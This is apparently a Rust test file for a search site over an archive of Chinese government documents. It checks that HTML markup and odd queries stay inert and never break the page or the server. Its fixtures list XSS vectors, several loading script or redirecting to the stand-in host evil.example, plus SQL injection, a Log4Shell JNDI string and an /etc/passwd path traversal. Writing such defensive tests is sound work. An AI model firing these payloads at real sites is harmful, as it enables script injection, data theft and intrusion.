//! Tests with what nobody means well: markup in every text, and queries that no grammar foresees.

use std::fmt::Write;

use gongkai_archive::{Archive, ArchiveError, Source};
use gongkai_document::{Attachment, Column, Document, DocumentId, DocumentNumber, IndexNumber, Relation, RelationKind};
use gongkai_document::{Kind, Request, Timestamp, Validity};
use gongkai_query::{
    Counterpart, Expansion, FacetCount, Facets, Interpreted, MatchedAttachment, SearchResponse, SemanticUse,
    SnippetSource,
};
use scraper::Html;
use url::form_urlencoded::byte_serialize;

use crate::best_bets::brief;
use crate::fixtures::{App, FakeEngine, hit, one_hit, service};
use crate::{Limits, router};

/// What breaks out of where a text stands.
const BREAKERS: [&str; 10] =
    ["", "\">", "'>", "</title>", "</textarea>", "</option></select>", "-->", "\" ", "]]>", "\0\"/"];
/// What runs once it is out.
const VECTORS: [&str; 20] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>点我</a>",
    "<form action=//evil.example><input name=q>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "autofocus onfocus=alert(1) x=\"",
    "style=\"background:url(//evil.example)\"",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script>",
    "\u{ff1c}script\u{ff1e}<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

fn payloads() -> impl Iterator<Item = String> {
    BREAKERS.into_iter().flat_map(|breaker| VECTORS.map(|vector| format!("{breaker}{vector}")))
}

/// The elements of a page with the names of their attributes, in order: what a text must not be able to change.
fn skeleton(html: &str) -> String {
    let mut lines = String::new();
    for node in Html::parse_document(html).tree.nodes() {
        if let Some(element) = node.value().as_element() {
            let mut names: Vec<&str> = element.attrs().map(|(name, _)| name).collect();
            names.sort_unstable();
            writeln!(lines, "{} {}", element.name(), names.join(" ")).unwrap();
            if let Some(href) = element.attr("href") {
                assert!(href.starts_with(['/', '#']) && !href.starts_with("//"), "a link leads to {href:?}");
            }
        }
    }
    lines
}

/// An answer with `text` in every place that a text can be in, also where an engine promises escaped HTML.
fn response_of(text: &str) -> SearchResponse {
    let facet = || vec![FacetCount { value: text.to_owned(), count: 1 }];
    let mut hit = hit();
    hit.title_html = text.to_owned();
    hit.snippet_html = text.to_owned();
    hit.publisher = Some(text.to_owned());
    hit.column = Some(text.to_owned());
    hit.document_number = DocumentNumber::new(text);
    hit.url = Some(text.to_owned());
    hit.snippet_from = SnippetSource::Attachment(text.to_owned());
    hit.matched_attachments = vec![MatchedAttachment { name: text.to_owned(), url: text.to_owned() }];
    hit.text_poor = true;
    let kind = RelationKind::InterpretedBy;
    hit.counterparts = vec![Counterpart { document: brief(document_of(9, text)), kind, by: text.to_owned() }];
    SearchResponse {
        total: 25,
        by_words: 25,
        hits: vec![hit],
        facets: Facets {
            kind: facet(),
            publisher: facet(),
            column: facet(),
            year: facet(),
            validity: facet(),
            town: facet(),
            has_attachment: facet(),
        },
        interpreted: Interpreted {
            document_number: Some(text.to_owned()),
            phrases: vec![text.to_owned()],
            excluded: vec![text.to_owned()],
            loosened: vec![text.to_owned()],
            expanded: vec![Expansion { from: text.to_owned(), to: text.to_owned() }],
        },
        suggestions: vec![text.to_owned()],
        semantic: SemanticUse::Used,
        generation: text.to_owned(),
    }
}

fn document_of(number: usize, text: &str) -> Document {
    let heading: String = text.chars().take(30).collect();
    let body = format!("{text}\n第一条 {text}\n第一章 {heading}");
    let mut document = Document::new(DocumentId::new(format!("x-{number}")).unwrap(), text, body);
    document.publisher = Some(text.to_owned());
    document.document_number = DocumentNumber::new(text);
    document.index_number = IndexNumber::new(text);
    document.columns = vec![Column::new(text)];
    document.url = Some(text.to_owned());
    document.kind = Kind::Reply;
    document.validity = Validity::Repealed;
    let mut read = Attachment::new(text, text);
    read.text = Some(format!("{text}\n{text}"));
    document.attachments = vec![Attachment::new(text, text), read];
    document.source = Some(text.to_owned());
    document.validity_claim = Some(text.to_owned());
    document.unified_number = Some(text.to_owned());
    document.text_poor = true;
    document.relations =
        vec![Relation { kind: RelationKind::Related, id: DocumentId::new("y").unwrap(), title: text.to_owned() }];
    document.request = Some(Request { number: text.to_owned(), text: text.to_owned(), ..Request::default() });
    document
}

#[tokio::test]
async fn markup_in_a_result_stays_text_wherever_it_stands() {
    let app = App::new(FakeEngine::new(|request| Ok(response_of(request.text()))));
    let mut harmless = None;
    for text in std::iter::once("无害".to_owned()).chain(payloads()) {
        let encoded: String = byte_serialize(text.as_bytes()).collect();
        let page = app.get(&format!("/search?q={encoded}&publisher={encoded}&column={encoded}")).await;
        assert_eq!(page.status, 200);
        let skeleton = skeleton(&page.body);
        assert_eq!(harmless.get_or_insert(skeleton.clone()), &skeleton, "{text}");
    }
}

#[tokio::test]
async fn markup_in_a_document_stays_text_wherever_it_stands() {
    let folder = tempfile::tempdir().unwrap();
    let archive = Archive::open(&folder.path().join("archive.sqlite")).unwrap();
    let texts: Vec<String> = std::iter::once("没有害处而又足够长的一行文字".to_owned()).chain(payloads()).collect();
    archive
        .batch(|archive| {
            for (number, text) in texts.iter().enumerate() {
                let source = Source::File("x".to_owned());
                // Something else first, so that the text is a difference too.
                archive.put_document(&document_of(number, "旧"), &source, Timestamp::UNIX_EPOCH)?;
                archive.put_document(&document_of(number, text), &source, Timestamp::UNIX_EPOCH)?;
            }
            Ok::<(), ArchiveError>(())
        })
        .unwrap();
    let mut harmless = [None, None];
    for (number, text) in texts.iter().enumerate() {
        let engine = FakeEngine::new(|request| Ok(one_hit(request))).with_similar(text);
        let app = App::over(router(service(engine, folder.path(), &Limits::default()), None));
        let document = format!("/documents/x-{number}");
        for (path, harmless) in [document.clone(), format!("{document}/versions/2")].iter().zip(&mut harmless) {
            let page = app.get(path).await;
            assert_eq!(page.status, 200);
            let skeleton = skeleton(&page.body);
            assert_eq!(harmless.get_or_insert(skeleton.clone()), &skeleton, "{path} {text}");
        }
    }
}

#[tokio::test]
async fn markup_in_a_bad_parameter_stays_text() {
    let app = App::new(FakeEngine::new(|request| Ok(one_hit(request))));
    let harmless = skeleton(&app.get("/search?sort=x").await.body);
    for payload in payloads() {
        let encoded: String = byte_serialize(payload.as_bytes()).collect();
        for query_string in [format!("sort={encoded}"), format!("{encoded}=1"), format!("page={encoded}")] {
            let page = app.get(&format!("/search?{query_string}")).await;
            assert_eq!((page.status.as_u16(), skeleton(&page.body)), (400, harmless.clone()), "{payload}");
            let problem = app.get(&format!("/api/v1/search?{query_string}")).await;
            assert_eq!(problem.status, 400);
            assert!(!problem.body.contains(['<', '>']), "{}", problem.body);
        }
    }
}

/// Queries that somebody will try, parted by `|`.
const ODD: &str = "|'|\"|“|-|--|- *|a:(^|*|**|title:*|/(.*政){30}/|a~9|\"a b\"~999999999|a^99999|[a TO z]|{a TO|IN [1 2 3]\
    |staff_notes:政府|_id:1|id:nfcms:1|AND|OR OR|NOT|NOT NOT a|&&|!|\\|\\\"|' OR 1=1 --|; DROP TABLE documents|${jndi:ldap://x}\
    |../../etc/passwd|%00|%25|%%|a%b|+|++--|?|#|花府办〔2020〕12号|花府办[2020|〔〕|（|第条|第二十条|2020年13月45日|−1|1e999|NaN|null\
    |undefined|\0|\u{feff}|\u{202e}低保|低保\u{200d}|👨‍👩‍👧‍👦|ﷺ|e\u{301}|\u{e000}|\u{10ffff}|\t\r\n|𠀀㙟|①②|ＡＢ１２|　";
/// Parts that make a query of any length.
const PARTS: [&str; 17] =
    ["(", ")", "\"", "-", "NOT ", "政", "a ", "\u{301}", "\0", "\u{1f600}", "“", "[", "*", "\\", " ", "的\"", "-的 "];

fn odd_queries() -> Vec<String> {
    let mut queries: Vec<String> = ODD.split('|').map(str::to_owned).collect();
    for count in [10, 100, 1_000, 2_000, 2_001, 10_000] {
        queries.extend(PARTS.map(|part| part.repeat(count)));
    }
    let controls = (0..0x20).chain(0x7f..0xa0).filter_map(char::from_u32);
    queries.extend(controls.map(|control| format!("低保{control}申请")));
    queries
}

#[tokio::test]
async fn no_query_however_odd_is_a_failure() {
    let app = App::new(FakeEngine::new(|request| Ok(one_hit(request))));
    let queries = odd_queries();
    assert!(queries.len() >= 200, "{}", queries.len());
    for query in queries {
        let encoded: String = byte_serialize(query.as_bytes()).collect();
        let expected = if query.chars().count() > 2_000 { 400 } else { 200 };
        if encoded.len() > 60_000 {
            // Longer than an address may be; the server itself refuses it.
            continue;
        }
        let page = app.get(&format!("/search?q={encoded}")).await;
        assert_eq!(page.status, expected, "{query:?}");
        let answer = app.get(&format!("/api/v1/search?q={encoded}")).await;
        assert_eq!(answer.status, expected, "{query:?}");
        let body: serde_json::Value = serde_json::from_str(&answer.body).unwrap();
        if expected == 200 {
            assert_eq!(body["query"], query);
        }
    }
}

#[tokio::test]
async fn bytes_that_are_no_text_are_a_bad_request_everywhere() {
    let app = App::new(FakeEngine::new(|request| Ok(one_hit(request))));
    for bytes in ["%", "%f", "%ff", "%c0%80", "%ed%a0%80", "%f4%90%80%80", "%E4%BD", "%zz"] {
        for path in ["/search?q=", "/api/v1/search?q=", "/search?kind=", "/search?"] {
            assert_eq!(app.get(&format!("{path}{bytes}")).await.status, 400, "{path}{bytes}");
        }
    }
    for path in ["/documents/%ff", "/api/v1/documents/%ff"] {
        assert_eq!(app.get(path).await.status, 400, "{path}");
    }
}
